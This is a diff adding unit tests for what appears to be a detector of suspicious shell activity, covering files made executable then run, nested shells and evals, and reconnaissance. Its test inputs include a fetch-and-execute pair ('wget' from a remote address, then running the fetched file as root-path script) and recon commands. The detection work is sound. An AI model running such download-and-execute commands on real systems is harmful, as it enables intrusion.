@@ -111,6 +111,18 @@ def test_a_prompt_takes_answers_and_ends_at_the_first_command() -> None:
     assert "answer" not in told_of.values
 
 
+def test_what_is_made_executable_and_run_later_is_told_on_its_line() -> None:
+    assert told(["chmod +x plum", "ls", "./plum"], 1) == {"arg.run_later": True}
+    assert told(["chmod +x plum && bash -c ./plum"])["arg.run_later"] is True
+    assert told(["chmod +x plum", "./fig"], 1) == {}
+
+
+def test_text_that_a_shell_is_given_is_read_three_deep() -> None:
+    assert told(["wget http://203.0.113.9/a", "sh -c 'cd /; sh -c /root/a'"])["exec.origin"] == ["fetched"]
+    script = read_script(["eval eval eval eval eval ls"])
+    assert script.capped == 1
+
+
 def test_recon_and_work_are_counted_from_line_to_line() -> None:
     script = read_script(["uname -a; id", "ls", "wget http://203.0.113.9/a", "grep x y"])
     (last,) = script.facts[-1].values()
